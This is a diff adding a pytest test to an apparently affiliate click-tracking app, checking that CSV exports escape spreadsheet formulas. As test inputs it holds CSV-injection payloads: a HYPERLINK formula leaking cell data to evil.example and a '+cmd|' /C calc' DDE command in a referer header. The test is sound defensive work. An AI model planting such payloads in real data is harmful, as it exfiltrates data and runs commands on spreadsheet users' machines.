@@ -9,6 +9,7 @@ import time
 from collections.abc import AsyncIterator
 from datetime import datetime
 from pathlib import Path
+from urllib.parse import parse_qs, urlencode, urlsplit
 
 import httpx
 import pytest
@@ -18,6 +19,7 @@ from clickback.domain.ports import Store
 from clickback.web.app import ClickbackApp
 from tests.conftest import ADMIN, AUTH, click, make_offer
 from tests.mmdb import write_mmdb
+from tests.web.test_ui import csrf_of
 
 BROWSER = {"user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"}
 
@@ -168,3 +170,57 @@ async def test_a_read_token_may_read_reports(client: httpx.AsyncClient) -> None:
     )
     assert r.status_code == 200, r.text
     assert r.json()["rows"] == [] and r.json()["totals"]["clicks"] == 0
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"open")'
+
+
+async def test_no_csv_export_holds_a_live_formula(live: httpx.AsyncClient) -> None:
+    """Sub-IDs, User-Agents, referers, coupons and order numbers come from outside: a
+    text cell that a spreadsheet would run as a formula is written with a `'` before
+    it, in the report's CSV, the dashboard's and the clicks' and conversions' exports;
+    a plain number (a sub-ID `-5`, an amount) is written as it is."""
+    s = await make_offer(live)
+    query = "?" + urlencode({"sub1": FORMULA, "sub2": "-5", "sub3": "@SUM(A1)", "sub4": "+3"})
+    r = await live.get(
+        f"/c/{s['link']['code']}{query}",
+        headers={"user-agent": "-2+3", "referer": "+cmd|' /C calc'!A0"},
+    )
+    refid = parse_qs(urlsplit(r.headers["location"]).query)["refid"][0]
+    postback = {"refid": refid, "orderamount": "10", "ordernumber": "=1+1", "coupon": "-1+1"}
+    assert (await live.get("/postback", params=postback)).json()["status"] == "accepted"
+    done = time.monotonic()
+    while True:
+        totals = (await live.get("/api/v1/reports", headers=AUTH)).json()["totals"]
+        if totals["clicks"] and totals["conversions"]:
+            break
+        assert time.monotonic() - done < 5
+        await asyncio.sleep(0.1)
+    params = {"group_by": "sub1,sub2,sub3,sub4"}
+    report = await live.get("/api/v1/reports/export", params=params, headers=AUTH)
+    [row] = list(csv.DictReader(io.StringIO(report.text)))
+    assert (row["sub1"], row["sub2"], row["sub3"], row["sub4"]) == (
+        "'" + FORMULA,
+        "-5",
+        "'@SUM(A1)",
+        "+3",
+    )
+    assert (row["clicks"], row["commission"]) == ("1", "5.00")
+    form = await live.get("/ui/login")
+    await live.post("/ui/login", data={"token": ADMIN, "csrf": csrf_of(form.text)})
+    dashboard = await live.get("/ui/reports.csv", params={"group_by": "sub1"})
+    [row] = list(csv.DictReader(io.StringIO(dashboard.text)))
+    assert row["sub1"] == "'" + FORMULA
+    clicks = await live.get("/api/v1/clicks/export", headers=AUTH)
+    [row] = list(csv.DictReader(io.StringIO(clicks.text)))
+    assert (row["refid"], row["sub1"], row["sub2"], row["user_agent"], row["referer"]) == (
+        refid,  # the tracker's own (it may start with `-`): written as it is
+        "'" + FORMULA,
+        "-5",
+        "'-2+3",
+        "'+cmd|' /C calc'!A0",
+    )
+    conversions = await live.get("/api/v1/conversions/export", headers=AUTH)
+    [row] = list(csv.DictReader(io.StringIO(conversions.text)))
+    assert (row["ordernumber"], row["coupon"], row["sub1"]) == ("'=1+1", "'-1+1", "'" + FORMULA)
+    assert (row["orderamount"], row["commission"]) == ("10.00", "5.00")
